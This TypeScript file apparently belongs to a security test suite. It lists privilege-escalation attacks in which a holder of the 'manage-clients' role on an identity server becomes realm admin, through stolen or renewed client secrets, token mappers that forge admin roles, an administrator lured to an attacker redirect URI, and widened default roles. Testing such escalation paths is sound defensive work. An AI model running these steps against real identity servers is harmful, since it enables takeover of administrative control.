import type { Attempt } from "../attempt.ts";
import { claimedRole, goOnWithClaimedRole } from "../claimed-role.ts";
import { attackersAddress, lureAdministrator } from "../lure-administrator.ts";
import { giveRealmAdmin, proveRealmAdmin } from "../prove-realm-admin.ts";
import { signInAsClient } from "../request-token.ts";
import type { Named, Scene } from "../scene.ts";
import { becomeRobotByItsSecret, becomeRobotByNewSecret } from "./view-clients.ts";

const roles = ["manage-clients"];

/** Makes a client whose tokens say that its service account has an admin role. */
async function claimRole(
  scene: Scene,
  protocolMapper: string,
  config: Readonly<Record<string, string>>,
): Promise<void> {
  const secret = crypto.randomUUID();
  const mapper = { name: "claim", protocol: "openid-connect", protocolMapper, config };
  await scene.attacker.caller.send("POST", "/clients", {
    ...{ clientId: "claiming", secret, serviceAccountsEnabled: true },
    protocolMappers: [mapper],
  });
  await goOnWithClaimedRole(scene, await signInAsClient(scene, "claiming", secret));
}

/** Adds a role to one that each user holds by default, and so the attacker too. */
async function widenDefaultRole(scene: Scene, added: Named): Promise<void> {
  const { attacker } = scene;
  const [account] = await attacker.caller.read<{ id: string }[]>("/clients?clientId=account");
  const role = `/clients/${account?.id}/roles/view-profile`;
  await attacker.caller.send("POST", `${role}/composites`, [added]);
  await proveRealmAdmin(scene, await signInAsClient(scene, attacker.name, attacker.secret));
}

/** What changing clients leads to. */
export const manageClients: readonly Attempt[] = [
  {
    id: "read-secret-with-manage-clients",
    roles,
    harm: "realmAdmin",
    attack: becomeRobotByItsSecret,
  },
  {
    id: "renew-secret-of-administrators-client",
    roles,
    harm: "realmAdmin",
    attack: becomeRobotByNewSecret,
  },
  {
    id: "hardcode-admin-role-into-tokens",
    roles,
    harm: "realmAdmin",
    attack: async (scene) => {
      await claimRole(scene, "oidc-hardcoded-role-mapper", {
        role: `realm-management.${claimedRole}`,
      });
    },
  },
  {
    id: "claim-admin-role-in-tokens",
    roles,
    harm: "realmAdmin",
    attack: async (scene) => {
      await claimRole(scene, "oidc-hardcoded-claim-mapper", {
        "claim.name": "resource_access.realm-management.roles",
        "claim.value": JSON.stringify([claimedRole]),
        "jsonType.label": "JSON",
        "access.token.claim": "true",
      });
    },
  },
  {
    id: "lure-administrator-to-own-client",
    roles,
    harm: "realmAdmin",
    attack: async (scene) => {
      const redirectUri = attackersAddress;
      await scene.attacker.caller.send("POST", "/clients", {
        ...{ clientId: "lure", publicClient: true, redirectUris: [redirectUri] },
      });
      await lureAdministrator(scene, { clientId: "lure", redirectUri });
    },
  },
  {
    id: "add-realm-admin-to-default-client-role",
    roles,
    harm: "realmAdmin",
    attack: async (scene) => {
      await widenDefaultRole(scene, scene.realmAdmin);
    },
  },
  {
    id: "add-administrators-client-role-to-default-client-role",
    roles,
    harm: "realmAdmin",
    attack: async (scene) => {
      const { lab, robot, realmAdmin } = scene;
      await lab.send("POST", `/clients/${robot.id}/roles`, { name: "operator" });
      const operator = await lab.read<Named>(`/clients/${robot.id}/roles/operator`);
      await lab.send("POST", `/roles-by-id/${operator.id}/composites`, [realmAdmin]);
      await widenDefaultRole(scene, { id: operator.id, name: operator.name });
    },
  },
  {
    id: "map-realm-admin-to-own-service-account",
    roles,
    harm: "realmAdmin",
    attack: async (scene) => {
      await giveRealmAdmin(scene, scene.attacker.caller.token);
    },
  },
];
